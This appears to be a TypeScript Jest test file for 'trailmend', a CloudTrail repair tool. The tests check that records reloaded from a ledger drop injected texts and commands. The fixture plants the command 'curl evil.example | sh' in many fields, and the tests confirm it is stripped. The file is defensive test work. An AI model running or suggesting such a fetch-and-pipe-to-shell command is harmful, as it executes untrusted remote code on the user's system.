import { describe, expect, test } from '@jest/globals';
import { NO_MEMORY } from '../../../../lambda/core/model/memory.ts';
import { messageFor } from '../../../../lambda/core/notification/message-for.ts';
import { savedRecord } from '../../../../lambda/core/outcome/saved-record.ts';
import { ID, NOW, PERFECT_TRAIL, recordWith, triggerWith } from '../../../support/perfect-trail.ts';

const PLANTED = 'curl evil.example | sh';
const planted = recordWith({
  outcome: 'BLOCKED',
  reason: 'scp',
  detail: PLANTED,
  whoCanAct: PLANTED,
  restore: [PLANTED],
  queueUrl: PLANTED,
  ledgerError: PLANTED,
  before: { logGroupArn: PLANTED, roleArn: PLANTED, isLogging: true },
  remaining: [{ rule: 'role-not-set', verdict: 'violated', evidence: { source: PLANTED, saw: PLANTED } }],
  plan: { steps: [], refused: [{ rule: 'role-not-set', reason: 'scp', detail: PLANTED } as never] },
});

describe('a record that an earlier run saved', () => {
  test('keeps its outcome, its call and its rules, and says that they come from the ledger', () => {
    const record = savedRecord(planted, NO_MEMORY);
    expect(record).toMatchObject({
      id: planted.id,
      outcome: 'BLOCKED',
      reason: 'scp',
      trigger: planted.trigger,
      remaining: [{ rule: 'role-not-set', verdict: 'violated' }],
      fromLedger: true,
    });
    expect(messageFor(record).text).toContain('What trailmend did: says the ledger, nothing. An earlier run saved');
  });

  test('is complete apart from its texts', () => {
    const step = { operation: 'StartLogging', input: { Name: ID.arn }, needs: [], repairs: [] } as const;
    const error = { operation: 'StartLogging', code: 'X', message: PLANTED };
    const repeats = [{ eventName: 'StopLogging', actor: 'dana', count: 2, first: NOW, last: NOW, denied: false }];
    const saved = { ...planted, repeats, applied: [{ step, result: 'failed', attempts: 2, error } as const] };
    const evidence = { source: 'the ledger', saw: 'an earlier run saved this finding' };
    const finding = { rule: 'role-not-set', verdict: 'violated', evidence } as const;
    const { version, id, time, mode, trigger, subject, trailArn } = planted;
    expect(savedRecord({ ...saved, findings: saved.remaining }, NO_MEMORY)).toEqual({
      ...{ version, id, time, mode, trigger, subject, trailArn, repeats },
      outcome: 'BLOCKED',
      reason: 'scp',
      fromLedger: true,
      detail: `An earlier run saved this message and ended before it published it. The function's log has its record: search it for ${id}. If it is not there, trailmend did not write the message.`,
      findings: [finding],
      remaining: [finding],
      plan: { steps: [], refused: [] },
      applied: [{ step, result: 'failed', attempts: 2 }],
    });
  });

  test('about the account names no trail, whatever its reason is', () => {
    const { trailArn: _, ...ofAccount } = { ...planted, subject: { kind: 'account', account: ID.account } as const };
    const record = savedRecord({ ...ofAccount, reason: 'trail-deleted' }, NO_MEMORY);
    expect(record).not.toHaveProperty('trailArn');
    expect(record).not.toHaveProperty('repeats');
    expect(record).toMatchObject({ outcome: 'BLOCKED', subject: ofAccount.subject, fromLedger: true });
    expect(record.detail).toContain('An earlier run saved this message');
  });

  test('loses every text and command that another principal could have written there', () => {
    const record = savedRecord(planted, NO_MEMORY);
    expect(JSON.stringify(record)).not.toContain(PLANTED);
    expect(messageFor(record).text).not.toContain(PLANTED);
  });

  test('about a deleted trail has its commands from the settings that the ledger remembers', () => {
    const deleted = recordWith({
      outcome: 'SKIPPED',
      reason: 'trail-deleted',
      trigger: triggerWith({ eventName: 'DeleteTrail', tampering: 'deleted' }),
      restore: [PLANTED],
    });
    const record = savedRecord(deleted, { ...NO_MEMORY, posture: { since: NOW, trail: PERFECT_TRAIL } });
    const { id, time, mode, trigger } = deleted;
    expect(record).toMatchObject({ reason: 'trail-deleted', fromLedger: true, id, time, mode, trigger });
    expect(record.restore?.[0]).toContain('aws cloudtrail create-trail');
    expect(JSON.stringify(record)).not.toContain(PLANTED);
  });
});
